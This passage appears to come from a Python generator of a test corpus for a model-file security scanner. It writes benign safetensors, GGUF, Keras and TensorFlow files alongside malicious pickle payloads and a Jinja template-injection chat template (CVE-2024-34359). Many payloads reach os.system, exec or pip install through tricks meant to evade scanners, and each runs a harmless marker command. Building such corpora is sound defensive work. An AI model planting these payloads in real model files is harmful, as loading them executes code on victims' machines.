        "F32/F16/BF16/I64/BOOL, __metadata__ {format: pt}, header padded with spaces, contiguous offsets")
    add("benign/safetensors/no_metadata.safetensors", safetensors_bytes({"w": ("F64", [2], np.array([1.0, 2.0], "<f8").tobytes()),
                                                                          "u": ("U8", [4], bytes(range(4)))}), "clean", "safetensors", "safetensors", "-",
        "no __metadata__, F64 and U8")


# GGUF v3 (https://github.com/ggml-org/ggml/blob/master/docs/gguf.md): value type ids and ggml tensor type ids.
G_U32, G_I32, G_F32, G_BOOL, G_STR, G_ARR, G_U64 = 4, 5, 6, 7, 8, 9, 10
GGML_F32, GGML_Q8_0 = 0, 8

LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + "
    "message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}")
CHATML_TEMPLATE = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}")
# CVE-2024-34359 ("Llama Drama", llama-cpp-python < 0.2.72 renders chat_template with an unsandboxed jinja2).
SSTI_TEMPLATE = (
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
    "{{x()._module.__builtins__['__import__']('os').popen(\"" + TOUCH + "\").read()}}{%endif%}{% endfor %}")
# The same gadget with the dunder names hidden behind |attr() and ~ string concatenation.
SSTI_ATTR_TEMPLATE = (
    "{% set c = ()|attr('__cl'~'ass__')|attr('__ba'~'se__')|attr('__subcl'~'asses__') %}"
    "{% for x in c() %}{% if 'warn' ~ 'ing' in x|attr('__na'~'me__') %}"
    "{{ (x()|attr('_mod'~'ule')|attr('__buil'~'tins__'))['__imp'~'ort__']('o'~'s')|attr('po'~'pen')('" + ECHO + "') }}"
    "{% endif %}{% endfor %}")


def g_str(s):
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def g_kv(key, vtype, value):
    out = g_str(key) + struct.pack("<I", vtype)
    if vtype == G_STR:
        return out + g_str(value)
    if vtype == G_ARR:
        etype, items = value
        out += struct.pack("<IQ", etype, len(items))
        fmt = {G_STR: None, G_F32: "<f", G_I32: "<i", G_U32: "<I"}[etype]
        return out + b"".join(g_str(i) if fmt is None else struct.pack(fmt, i) for i in items)
    return out + struct.pack({G_U32: "<I", G_I32: "<i", G_F32: "<f", G_BOOL: "<?", G_U64: "<Q"}[vtype], value)


def q8_0_blocks(values):
    """Q8_0: blocks of 32 weights, each an fp16 scale d then 32 int8 quants (ggml-common.h block_q8_0)."""
    out = b""
    for i in range(0, len(values), 32):
        block = np.array(values[i:i + 32], np.float32)
        d = float(np.abs(block).max()) / 127 or 1.0
        out += np.float16(d).tobytes() + np.round(block / d).astype(np.int8).tobytes()
    return out


def gguf_bytes(template, name="tiny-llama"):
    tokens = ["<unk>", "<s>", "</s>", "▁the", "▁model", "▁gate", "<|im_start|>", "<|im_end|>"]
    kvs = [
        g_kv("general.architecture", G_STR, "llama"),
        g_kv("general.name", G_STR, name),
        g_kv("general.file_type", G_U32, 7),
        g_kv("general.alignment", G_U32, 32),
        g_kv("llama.context_length", G_U32, 128),
        g_kv("llama.embedding_length", G_U32, 32),
        g_kv("llama.block_count", G_U32, 0),
        g_kv("llama.feed_forward_length", G_U32, 64),
        g_kv("llama.attention.head_count", G_U32, 4),
        g_kv("llama.attention.head_count_kv", G_U32, 4),
        g_kv("llama.rope.dimension_count", G_U32, 8),
        g_kv("llama.attention.layer_norm_rms_epsilon", G_F32, 1e-5),
        g_kv("tokenizer.ggml.model", G_STR, "llama"),
        g_kv("tokenizer.ggml.tokens", G_ARR, (G_STR, tokens)),
        g_kv("tokenizer.ggml.scores", G_ARR, (G_F32, [0.0] * len(tokens))),
        g_kv("tokenizer.ggml.token_type", G_ARR, (G_I32, [2, 3, 3, 1, 1, 1, 4, 4])),
        g_kv("tokenizer.ggml.bos_token_id", G_U32, 1),
        g_kv("tokenizer.ggml.eos_token_id", G_U32, 2),
        g_kv("tokenizer.chat_template", G_STR, template),
    ]
    rng = np.random.RandomState(0)
    emb = q8_0_blocks(rng.uniform(-1, 1, 32 * len(tokens)).tolist())  # token_embd.weight: ne = [32, n_vocab]
    norm = np.ones(32, "<f4").tobytes()  # output_norm.weight: ne = [32]
    infos = []
    offset = 0
    datas = []
    for tname, dims, gtype, raw in (("token_embd.weight", [32, len(tokens)], GGML_Q8_0, emb), ("output_norm.weight", [32], GGML_F32, norm)):
        infos.append(g_str(tname) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", gtype, offset))
        pad = -len(raw) % 32
        datas.append(raw + b"\0" * pad)
        offset += len(raw) + pad
    head = b"GGUF" + struct.pack("<IQQ", 3, len(infos), len(kvs)) + b"".join(kvs) + b"".join(infos)
    head += b"\0" * (-len(head) % 32)
    return head + b"".join(datas)


def benign_gguf():
    """Hand-written GGUF v3 llama-shaped files with real chat templates."""
    add("benign/gguf/tiny_llama3.gguf", gguf_bytes(LLAMA3_TEMPLATE), "clean", "gguf", "gguf-chat-template", "-",
        "llama.* keys, tokens array, Llama 3 chat_template (plain jinja: set/for/if/trim), Q8_0 and F32 tensors aligned to 32")
    add("benign/gguf/tiny_chatml.gguf", gguf_bytes(CHATML_TEMPLATE, "tiny-chatml"), "clean", "gguf", "gguf-chat-template", "-",
        "ChatML chat_template")


def keras3_dense(name, units, activation="relu"):
    return {"module": "keras.layers", "class_name": "Dense", "config": {
        "name": name, "trainable": True,
        "dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None},
        "units": units, "activation": activation, "use_bias": True,
        "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None}, "registered_name": None},
        "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros", "config": {}, "registered_name": None},
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None, "bias_constraint": None},
        "registered_name": None, "build_config": {"input_shape": [None, 4]}}


def keras3_sequential(layers):
    """Keras 3 config.json (keras/src/saving/serialization_lib.py serialize_keras_object shape)."""
    return {"module": "keras", "class_name": "Sequential", "config": {
        "name": "sequential", "trainable": True,
        "dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None},
        "layers": [{"module": "keras.layers", "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input_layer"}, "registered_name": None}] + layers,
        "build_input_shape": [None, 4]}, "registered_name": None, "build_config": {"input_shape": [None, 4]}, "compile_config": None}


def keras3_weights(names):
    rng = np.random.RandomState(0)

    def build(f):
        layers = f.create_group("layers")
        for n in names:
            v = layers.create_group(n).create_group("vars")
            v.create_dataset("0", data=rng.rand(4, 4).astype(np.float32))
            v.create_dataset("1", data=np.zeros(4, np.float32))
        f.create_group("optimizer").create_group("vars")
        f.create_group("vars")
    return h5_bytes(build)


def keras_zip(config, weight_layers):
    """.keras archive (Keras 3 saving_lib): metadata.json, config.json, model.weights.h5."""
    meta = {"keras_version": "3.3.3", "date_saved": "2024-01-01@00:00:00"}
    return make_zip([("metadata.json", json.dumps(meta).encode()), ("config.json", json.dumps(config).encode()),
                     ("model.weights.h5", keras3_weights(weight_layers))], zipfile.ZIP_DEFLATED)


def benign_keras():
    """Keras 3 .keras zip with InputLayer/Dense/Dropout in the exact Keras 3 serialization shape."""
    dropout = {"module": "keras.layers", "class_name": "Dropout", "config": {
        "name": "dropout", "trainable": True,
        "dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None},
        "rate": 0.1, "seed": None, "noise_shape": None}, "registered_name": None}
    cfg = keras3_sequential([keras3_dense("dense", 4), dropout, keras3_dense("dense_1", 4, "softmax")])
    add("benign/keras/sequential.keras", keras_zip(cfg, ["dense", "dense_1"]), "clean", "keras", "keras3-zip", "-",
        "modules keras / keras.layers / keras.initializers only, registered_name null")


# ---------------------------------------------------------------------------------------------------------------
# Tiny protobuf encoder for hand-made TensorFlow SavedModel files (tensorflow/core/protobuf/saved_model.proto,
# meta_graph.proto, tensorflow/core/framework/graph.proto, node_def.proto, function.proto, attr_value.proto).
# ---------------------------------------------------------------------------------------------------------------
def pb_varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def pb_field(num, value):
    if isinstance(value, int):
        return pb_varint(num << 3) + pb_varint(value)
    if isinstance(value, str):
        value = value.encode()
    return pb_varint(num << 3 | 2) + pb_varint(len(value)) + value


def tf_attr_entry(key, attr_value):
    return pb_field(1, key) + pb_field(2, attr_value)  # map<string, AttrValue> entry: key=1, value=2


def tf_node(name, op, inputs=(), attrs=None):
    """NodeDef: name=1, op=2, input=3 (repeated), device=4, attr=5 (map)."""
    out = pb_field(1, name) + pb_field(2, op) + b"".join(pb_field(3, i) for i in inputs)
    for k, v in (attrs or {}).items():
        out += pb_field(5, tf_attr_entry(k, v))
    return out


def attr_type(dt):
    return pb_field(6, dt)  # AttrValue.type = 6 (DataType enum: DT_FLOAT=1, DT_STRING=7)


def attr_s(s):
    return pb_field(2, s)  # AttrValue.s = 2


def attr_type_list(*dts):
    return pb_field(1, b"".join(pb_field(6, d) for d in dts))  # AttrValue.list=1, ListValue.type=6 (packed ok)


def saved_model(nodes, functions=()):
    """SavedModel{saved_model_schema_version=1, meta_graphs=2{meta_info_def=1{tags=4, tensorflow_version=5},
    graph_def=2{node=1, library=2{function=1{signature=1{name=1}, node_def=3}}, versions=4{producer=1}}}}."""
    lib = b""
    for fname, fnodes in functions:
        lib += pb_field(1, pb_field(1, pb_field(1, fname)) + b"".join(pb_field(3, n) for n in fnodes))
    graph = b"".join(pb_field(1, n) for n in nodes) + (pb_field(2, lib) if lib else b"") + pb_field(4, pb_field(1, 1286))
    meta_info = pb_field(4, "serve") + pb_field(5, "2.15.0")
    meta_graph = pb_field(1, meta_info) + pb_field(2, graph)
    return pb_field(1, 1) + pb_field(2, meta_graph)


def tf_benign_nodes():
    return [tf_node("x", "Placeholder", attrs={"dtype": attr_type(1)}),
            tf_node("w", "VarHandleOp", attrs={"dtype": attr_type(1), "shared_name": attr_s("w")}),
            tf_node("w/read", "ReadVariableOp", ["w"], {"dtype": attr_type(1)}),
            tf_node("y", "MatMul", ["x", "w/read"], {"T": attr_type(1)}),
            tf_node("out", "Identity", ["y"], {"T": attr_type(1)})]


def benign_tensorflow():
    """A hand-encoded saved_model.pb with ordinary ops (Placeholder/VarHandleOp/ReadVariableOp/MatMul/Identity)."""
    fn = [tf_node("relu", "Relu", ["x"], {"T": attr_type(1)})]
    add("benign/tensorflow/matmul/saved_model.pb", saved_model(tf_benign_nodes(), [("__inference_call_10", fn)]), "clean",
        "tensorflow-savedmodel", "tf-graph", "-", "ordinary ops at top level and a Relu inside a FunctionDefLibrary function")


# ===============================================================================================================
# CODE BY DESIGN (suspicious)
# ===============================================================================================================
def lambda_code(src):
    """The code object of the first lambda in `src`: compiled, never run."""
    module = compile(src, "<modelgate-corpus>", "exec")
    return next(c for c in module.co_consts if hasattr(c, "co_code"))


def func_dump_b64(code):
    """keras python_utils.func_dump: base64 (with codecs' line breaks) of marshal.dumps(code)."""
    return codecs.encode(marshal.dumps(code), "base64").decode("ascii")


def keras3_lambda(code_b64):
    return {"module": "keras.layers", "class_name": "Lambda", "config": {
        "name": "lambda", "trainable": True,
        "dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None},
        "function": {"class_name": "__lambda__", "config": {"code": code_b64, "defaults": None, "closure": None}},
        "arguments": {}}, "registered_name": None, "build_config": {"input_shape": [None, 4]}}


def keras2_lambda(code_b64):
    return {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                                               "function": [code_b64, None, None], "function_type": "lambda", "module": "__main__",
                                               "output_shape": None, "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}}


def code_files():
    """Formats that carry executable code by design."""
    seed()
    scripted = torch.jit.script(torch.nn.Sequential(torch.nn.Linear(4, 2), torch.nn.ReLU()))
    buf = io.BytesIO()
    torch.jit.save(scripted, buf)
    add("code/torchscript/scripted_linear.pt", buf.getvalue(), "suspicious", "torchscript", "torchscript", "-",
        "torch.jit.save: code/__torch__/*.py TorchScript source is executed by torch.jit.load")
    traced = torch.jit.trace(torch.nn.Linear(3, 1), torch.ones(1, 3))
    buf = io.BytesIO()
    torch.jit.save(traced, buf)
    add("code/torchscript/traced_linear", buf.getvalue(), "suspicious", "torchscript", "torchscript", "-", "traced module, no extension")
    benign_lambda = lambda_code("f = lambda x: x * 2.0")
    cfg = keras3_sequential([keras3_lambda(func_dump_b64(benign_lambda))])
    add("code/keras/lambda_double.keras", keras_zip(cfg, []), "suspicious", "keras", "keras-lambda", "CVE-2024-3660",
        "Keras 3 Lambda (__lambda__) with marshal bytecode of `lambda x: x * 2.0`: code by design, nothing dangerous in co_names")
    rng = np.random.RandomState(0)
    h5 = keras2_h5([keras2_dense_layer("dense", 4, 4), keras2_lambda(func_dump_b64(benign_lambda))],
                   {"dense": {"kernel": rng.rand(4, 4).astype(np.float32), "bias": np.zeros(4, np.float32)}})
    add("code/keras/lambda_double.h5", h5, "suspicious", "hdf5", "keras-lambda", "CVE-2025-9905",
        "Keras 2 Lambda in model_config: function = [base64 marshal, null, null]; code by design")


# ===============================================================================================================
# MALICIOUS: pickle core
# ===============================================================================================================
def mal(rel, data, fmt, technique, reference, note, expect="malicious", pickles=1, broken=False, check=True):
    if check:
        check_pickle(data, pickles, broken)
    add("malicious/" + rel, data, expect, fmt, technique, reference, note)


def mal_os_system_protocols():
    """GLOBAL os.system + REDUCE at protocols 0, 2, 4 (STACK_GLOBAL + FRAME-less) and 5."""
    mal("pickle/os_system_protocol0.pkl", Asm(0).call("os", "system", TOUCH).stop().bytes(), "pickle", "global-reduce",
        "https://docs.python.org/3/library/pickle.html#restricting-globals", "protocol 0 text opcodes: c os\\nsystem + REDUCE; marker payload")
    mal("pickle/os_system_protocol2.pkl", payload_pickle(2), "pickle", "global-reduce", "-", "GLOBAL os system, BINUNICODE, TUPLE1, REDUCE")
    mal("pickle/os_system_protocol4.pkl", Asm(4).sglob("os", "system").memoize().str(ECHO).memoize().tuple(1).reduce().stop().bytes(),
        "pickle", "stack-global-reduce", "-", "STACK_GLOBAL with literal operands, MEMOIZE between")
    frame_body = Asm(5).sglob("os", "system").str(TOUCH).tuple(1).reduce().stop().bytes()[2:]
    mal("pickle/os_system_protocol5_frame.pkl", b"\x80\x05\x95" + struct.pack("<Q", len(frame_body)) + frame_body, "pickle", "stack-global-reduce", "-",
        "protocol 5 with a FRAME around the payload; marker payload")


def mal_pickle_variants():
    """posix/nt spellings, NEWOBJ, INST, OBJ, builtins eval/exec/__import__ and the py2 __builtin__ spelling."""
    mal("pickle/posix_system.pkl", Asm(2).call("posix", "system", TOUCH).stop().bytes(), "pickle", "posix-system", "-",
        "os.system under its C module name posix (what pickle records for os.system on Linux); marker payload")
    mal("pickle/nt_system.pkl", Asm(2).call("nt", "system", ECHO).stop().bytes(), "pickle", "nt-system", "-", "Windows spelling nt.system")
    mal("pickle/subprocess_popen_newobj.pkl",
        Asm(2).glob("subprocess", "Popen").value((["echo", "modelgate-corpus"],)).raw(b"\x81").stop().bytes(), "pickle", "newobj",
        "-", "subprocess.Popen reached through NEWOBJ (cls.__new__(cls, *args)), no REDUCE")
    mal("pickle/inst_eval_protocol0.pkl", Asm(0).mark().str(PRINT).raw(b"ibuiltins\neval\n").stop().bytes(), "pickle", "inst",
        "https://github.com/mmaitre314/picklescan/issues/13", "INST opcode (i module\\nname) imports AND calls builtins.eval; no GLOBAL at all")
    mal("pickle/obj_exec_protocol1.pkl", Asm(1).mark().glob("builtins", "exec").str(OPEN_MARKER).raw(b"o").stop().bytes(), "pickle", "obj",
        "-", "OBJ opcode calls builtins.exec(source) with the class taken from the stack after MARK; marker payload")
    mal("pickle/py2_builtin_eval.pkl", Asm(2).call("__builtin__", "eval", PRINT).stop().bytes(), "pickle", "py2-builtin",
        "-", "Python 2 spelling __builtin__.eval: pickle's fix_imports maps it to builtins.eval")
    a = Asm(2).glob("builtins", "getattr").mark().call("builtins", "__import__", "os").str("system").raw(b"t").reduce()
    a.args(ECHO).reduce().stop()
    mal("pickle/getattr_import_os_system.pkl", a.bytes(), "pickle", "getattr-chain", "-",
        "getattr(__import__('os'), 'system')('echo ...'): the dangerous name only appears as getattr's string argument")
    a = Asm(3).mark().glob("builtins", "exec").bin(b"print('modelgate-corpus')").raw(b"o").stop()
    mal("pickle/exec_bytes_protocol3.pkl", a.bytes(), "pickle", "obj", "-", "OBJ builtins.exec with a bytes source (SHORT_BINBYTES)")
    mal("pickle/pty_spawn.pkl", b"(cpty\nspawn\nS\"true\"\no.", "pickle", "obj", "https://github.com/trailofbits/fickling/pull/108",
        "pty.spawn('true') via OBJ, the fickling bypass payload verbatim shape")


def mal_memo_and_computed():
    """STACK_GLOBAL operands that come from the memo or are computed at load time."""
    # doyensec memo confusion: BINPUT and MEMOIZE mixed so a scanner that only follows MEMOIZE gets the wrong names.
    a = Asm(4).str("os").raw(b"q\x00").str("system").raw(b"q\x01").str("torch._utils").memoize().str("_rebuild_tensor_v2").memoize()
    a.pop().pop().pop().pop().get(0).get(1).raw(b"\x93").str(TOUCH).tuple(1).reduce().stop()
    mal("pickle/stack_global_memo_mix.pkl", a.bytes(), "pickle", "stack-global-memo",
        "https://github.com/mmaitre314/picklescan/issues/14",
        "BINPUT 0/1 hold 'os'/'system', MEMOIZE stores the torch names at 2/3; a scanner numbering only MEMOIZE thinks BINGET 0/1 are torch._utils/_rebuild_tensor_v2; marker payload")
    a = Asm(4).str("posix").memoize().str("getcwd").pop().str("system").memoize().pop().pop()
    a.str("torch").str("load").pop().pop().get(0).get(1).raw(b"\x93").str(ECHO).tuple(1).reduce().stop()
    mal("pickle/stack_global_memo_padding.pkl", a.bytes(), "pickle", "stack-global-memo", "https://github.com/msaad00/agent-bom/pull/3326",
        "dangerous operands parked in the memo, benign literals pushed last, then replayed with BINGET before STACK_GLOBAL")
    # _codecs.encode('bf', 'rot13') == 'os' at load time; STACK_GLOBAL on a computed string.
    a = Asm(4).call("_codecs", "encode", "bf", "rot13").call("_codecs", "encode", "flfgrz", "rot13").raw(b"\x93").str(ECHO).tuple(1).reduce().stop()
    mal("pickle/stack_global_codecs_rot13.pkl", a.bytes(), "pickle", "stack-global-computed", "-",
        "STACK_GLOBAL operands are results of _codecs.encode(..., 'rot13'): os.system only exists at load time; operands not constant -> cannot be fully analysed",
        expect="flagged")
    # ''.join(['o','s']) via getattr(str, 'join'), as in protectai/modelscan#331.
    a = Asm(4).glob("builtins", "getattr").memoize().glob("builtins", "str").str("join").tuple(2).reduce().memoize()
    a.str("").value(["o", "s"]).tuple(2).reduce()
    a.get(1).str("").value(["sys", "tem"]).tuple(2).reduce().raw(b"\x93").str(ECHO).tuple(1).reduce().stop()
    mal("pickle/stack_global_str_join.pkl", a.bytes(), "pickle", "stack-global-computed", "https://github.com/protectai/modelscan/issues/331",
        "module and attribute names built by str.join on character lists at load time, then STACK_GLOBAL + REDUCE", expect="flagged")
    # protectai/modelscan#85: BUILD sets attributes on an allowlisted function, GLOBAL 'numpy' 'prod.a' reads them back.
    a = Asm(4).glob("numpy", "prod").none().value({"a": "os"}).tuple(2).build().none().value({"b": "system"}).tuple(2).build().pop()
    a.glob("numpy", "prod.a").raw(b"q\x00").glob("numpy", "prod.b").raw(b"q\x01").pop().pop().get(0).get(1).raw(b"\x93").str(ECHO).tuple(1).reduce().stop()
    mal("pickle/build_setattr_allowlisted.pkl", a.bytes(), "pickle", "build-setattr", "https://github.com/protectai/modelscan/issues/85",
        "BUILD slotstate setattr on numpy.prod, dotted GLOBAL numpy prod.a reads the planted strings, STACK_GLOBAL on them", expect="flagged")
    # protectai/modelscan#330: numpy.__builtins__ is the builtins dict; operator.getitem(d, 'eval').
    a = Asm(4).sglob("_operator", "getitem").sglob("numpy", "__builtins__").str("eval").tuple(2).reduce().str(PRINT).tuple(1).reduce().stop()
    mal("pickle/numpy_builtins_getitem_eval.pkl", a.bytes(), "pickle", "allowlisted-module-dunder", "https://github.com/protectai/modelscan/issues/330",
        "numpy.__builtins__ (dunder attribute of an allowlisted module) indexed with 'eval' through _operator.getitem")


def mal_resolvers():
    """importlib / pkgutil / operator resolvers that turn strings into callables."""
    a = Asm(4).sglob("builtins", "getattr").call("importlib", "import_module", "os").str("system").tuple(2).reduce().str(ECHO).tuple(1).reduce().stop()
    mal("pickle/importlib_import_module.pkl", a.bytes(), "pickle", "importlib", "https://github.com/protectai/modelscan/issues/331",
        "getattr(importlib.import_module('os'), 'system')('echo ...')")
    a = Asm(4).call("pkgutil", "resolve_name", "os:system").str(TOUCH).tuple(1).reduce().stop()
    mal("pickle/pkgutil_resolve_name.pkl", a.bytes(), "pickle", "pkgutil-resolve-name", "GHSA-vvpj-8cmc-gx39",
        "pkgutil.resolve_name('os:system') returns os.system, then REDUCE; marker payload")
    a = Asm(2).call("operator", "attrgetter", "system").glob("posixpath", "os").tuple(1).reduce().args(ECHO).reduce().stop()
    mal("pickle/operator_attrgetter.pkl", a.bytes(), "pickle", "operator-attrgetter", "GHSA-m273-6v24-x4m4",
        "operator.attrgetter('system')(posixpath.os) -> os.system; the os module is reached as an attribute of posixpath")
    a = Asm(2).call("_operator", "methodcaller", "system", ECHO).glob("posixpath", "os").tuple(1).reduce().stop()
    mal("pickle/operator_methodcaller.pkl", a.bytes(), "pickle", "operator-methodcaller", "GHSA-955r-x9j8-7rhh",
        "_operator.methodcaller('system', cmd)(posixpath.os)")
    a = Asm(2).glob("functools", "partial").glob("os", "system").str(ECHO).tuple(2).reduce().tuple(0).reduce().stop()
    mal("pickle/functools_partial.pkl", a.bytes(), "pickle", "functools-partial", "https://github.com/trailofbits/fickling/pull/210",
        "functools.partial(os.system, cmd) then REDUCE with an empty tuple: os.system is only an argument")


def mal_structure():
    """Payload placement tricks: nested, BUILD/__setstate__, EXT1, broken stream, several pickles, import only, OOB."""
    a = Asm(2).raw(b"}").mark().str("epoch").int(7).str("model").raw(b"}").mark().str("layers").raw(b"]").mark()
    a.raw(b"}").mark().str("weight").value([0, 1, 2]).str("meta").raw(b"}").str("init").raw(ops_system(TOUCH)).raw(b"s").raw(b"u")
    a.raw(b"e").raw(b"u").raw(b"u").stop()
    mal("pickle/nested_in_dict.pkl", a.bytes(), "pickle", "nested-reduce", "-",
        "os.system REDUCE as a value four levels deep inside dicts/lists of an otherwise plain checkpoint dict; marker payload")
    a = Asm(2).glob("types", "SimpleNamespace").tuple(0).raw(b"\x81")
    a.raw(b"}").str("__setstate__").glob("os", "system").raw(b"s").build().str(ECHO).build().stop()
    mal("pickle/build_setstate.pkl", a.bytes(), "pickle", "build-setstate", "https://github.com/trailofbits/fickling/pull/302",
        "first BUILD puts __setstate__=os.system in a SimpleNamespace's __dict__, second BUILD calls it with the command; no REDUCE")
    a = Asm(2).call("copyreg", "add_extension", "os", "system", 0xF0).pop().raw(b"\x82\xf0").args(ECHO).reduce().stop()
    mal("pickle/ext1_copyreg.pkl", a.bytes(), "pickle", "ext-registry", "-",
        "copyreg.add_extension('os','system',240) then EXT1 240 pushes os.system from the extension registry")
    a = Asm(2).call("os", "system", TOUCH).raw(b"\x00\xffMODELGATE garbage \x8a\xff\xff\xff\xff")
    mal("pickle/broken_after_payload.pkl", a.bytes(), "pickle", "broken-pickle",
        "ReversingLabs nullifAI (2025)", "payload REDUCE runs, then the stream breaks (invalid opcode, no STOP); marker payload", broken=True)
    benign1 = pickle.dumps({"epoch": 1}, protocol=2)
    benign2 = pickle.dumps([1.0, 2.0], protocol=4)
    mal("pickle/three_pickles_payload_third.pkl", benign1 + benign2 + payload_pickle(2, TOUCH), "pickle", "multiple-pickles",
        "https://github.com/promptfoo/modelaudit/pull/581", "three concatenated pickles; only the third calls os.system; marker payload", pickles=3)
    mal("pickle/import_only.pkl", Asm(2).glob("os", "system").stop().bytes(), "pickle", "import-only", "-",
        "GLOBAL os system and STOP: returns the function without calling it; still a dangerous import")
    a = Asm(5).raw(b"\x96" + struct.pack("<Q", 4) + b"\x00\x01\x02\x03").pop()  # BYTEARRAY8
    a.call("os", "system", ECHO).pop().raw(b"\x97\x98")  # NEXT_BUFFER, READONLY_BUFFER
    a.stop()
    mal("pickle/protocol5_oob_buffers.pkl", a.bytes(), "pickle", "protocol5-buffers", "PEP 574",
        "BYTEARRAY8 before and NEXT_BUFFER/READONLY_BUFFER after the payload; scanners that do not know opcodes 0x96-0x98 stop early")
    inner = payload_pickle(2, TOUCH)
    a = Asm(3).callable("pickle", "loads").value((inner,)).reduce().stop()
    mal("pickle/nested_pickle_loads.pkl", a.bytes(), "pickle", "nested-pickle", "GHSA-84r2-jw7c-4r5q",
        "pickle.loads(b'...') of an inner pickle that calls os.system; the inner bytes are an argument, not opcodes")


def mal_callables():
    """Dangerous callables beyond os/subprocess/builtins, and published gadget functions."""
    mal("pickle/runpy_run_code.pkl", Asm(2).call("runpy", "_run_code", OPEN_MARKER, {}).stop().bytes(), "pickle", "runpy", "-",
        "runpy._run_code(source, {}) execs a string; marker payload")
    mal("pickle/webbrowser_open.pkl", Asm(2).call("webbrowser", "open", "https://example.invalid/modelgate-corpus").stop().bytes(),
        "pickle", "webbrowser", "-", "webbrowser.open starts a browser process")
    mal("pickle/pip_main_install.pkl", Asm(2).call("pip", "main", ["install", "modelgate-corpus-does-not-exist"]).stop().bytes(),
        "pickle", "pip-install", "CVE-2025-1716", "pip.main(['install', ...]) installs (and runs setup code of) an arbitrary package")
    mal("pickle/pip_internal_main.pkl", Asm(4).call("pip._internal.cli.main", "main", ["install", "modelgate-corpus-does-not-exist"]).stop().bytes(),
        "pickle", "pip-install", "CVE-2025-1716", "pip._internal.cli.main.main through STACK_GLOBAL")
    a = Asm(2).glob("builtins", "getattr").call("ctypes", "CDLL", None).str("system").tuple(2).reduce().args(ECHO).reduce().stop()
    mal("pickle/ctypes_libc_system.pkl", a.bytes(), "pickle", "ctypes", "-", "getattr(ctypes.CDLL(None), 'system')(...): libc system through ctypes")
    mal("pickle/socket_connect.pkl", Asm(2).call("socket", "create_connection", ("127.0.0.1", 9)).stop().bytes(), "pickle", "socket", "-",
        "socket.create_connection to the discard port: network access at load time")
    code = compile(PRINT, "<modelgate-corpus>", "exec")
    a = Asm(3).callable("types", "FunctionType").callable("marshal", "loads").value((marshal.dumps(code),)).reduce().value({}).tuple(2).reduce().tuple(0).reduce().stop()
    mal("pickle/marshal_function_type.pkl", a.bytes(), "pickle", "marshal-code", "https://github.com/mmaitre314/picklescan/pull/74",
        "types.FunctionType(marshal.loads(<code bytes>), {})(): Python bytecode built from marshal and called")
    mal("pickle/gadget_uuid_get_command_stdout.pkl", Asm(2).call("uuid", "_get_command_stdout", "touch", MARKER).stop().bytes(), "pickle",
        "stdlib-gadget", "CVE-2026-56315", "uuid._get_command_stdout runs a command through subprocess.Popen; marker payload")
    mal("pickle/gadget_aix_support.pkl", Asm(2).call("_aix_support", "_read_cmd_output", ECHO).stop().bytes(), "pickle",
        "stdlib-gadget", "CVE-2026-56315", "_aix_support._read_cmd_output (Python >= 3.12) runs a shell command")
    mal("pickle/gadget_osx_support.pkl", Asm(2).call("_osx_support", "_read_output", TOUCH).stop().bytes(), "pickle",
        "stdlib-gadget", "CVE-2026-56315", "_osx_support._read_output runs a shell command via os.system; marker payload")
    mal("pickle/gadget_pydoc_pipepager.pkl", Asm(2).call("pydoc", "pipepager", "modelgate-corpus", "true").stop().bytes(), "pickle",
        "stdlib-gadget", "-", "pydoc.pipepager(text, cmd) runs cmd with shell=True")
    mal("pickle/gadget_torch_collect_env_run.pkl", Asm(2).call("torch.utils.collect_env", "run", ECHO).stop().bytes(), "pickle",
        "torch-gadget", "GHSA-f745-w6jp-hpxx", "torch.utils.collect_env.run(command) runs a shell command; torch.* is not blanket-safe")
    mal("pickle/gadget_numpy_runstring.pkl", Asm(2).call("numpy.testing._private.utils", "runstring", PRINT, {}).stop().bytes(), "pickle",
        "numpy-gadget", "-", "numpy.testing._private.utils.runstring(src, dict) is exec(); numpy.* is not blanket-safe")
    a = Asm(2).call("asyncio.unix_events", "_UnixSubprocessTransport", None, None, ECHO, True, None, None, None, 0).stop()
    mal("pickle/gadget_asyncio_subprocess_transport.pkl", a.bytes(), "pickle", "asyncio-gadget", "CVE-2025-10157",
        "asyncio.unix_events._UnixSubprocessTransport: a submodule of a blocked package (exact-name blocklists miss it)")


# ===============================================================================================================
# MALICIOUS: containers
# ===============================================================================================================
def payload_torch_members(cmd=ECHO, folder=None):
    members = small_state_dict_pickle_payload(cmd)
    if folder:
        members = [(folder + "/" + n.split("/", 1)[1], d) for n, d in members]
    return members


def mal_torch_zip():
    """Real torch.save zips whose data.pkl is replaced by a payload pickle (payload nested in the state dict)."""
    ref = "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-769v-p64c-89pr"
    add("malicious/torch/default_folder.pt", make_zip(payload_torch_members(TOUCH)), "malicious", "pytorch-zip", "torch-zip-payload", "-",
        "archive/data.pkl = {'state_dict': real Linear state dict, 'hook': os.system(...)}; marker payload")
    add("malicious/torch/renamed_folder.pth", make_zip(payload_torch_members(ECHO, "tiny_resnet")), "malicious", "pytorch-zip",
